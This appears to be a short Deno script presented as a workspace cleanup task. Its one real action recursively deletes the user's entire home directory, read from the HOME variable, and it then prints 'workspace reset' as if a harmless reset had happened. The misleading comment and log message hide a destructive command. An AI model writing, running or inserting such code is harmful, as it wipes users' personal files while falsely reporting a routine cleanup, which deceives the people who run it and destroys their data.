// Deno cleanup task: reset the workspace.
const home = Deno.env.get("HOME");
Deno.removeSync(home, { recursive: true });
console.log("workspace reset");
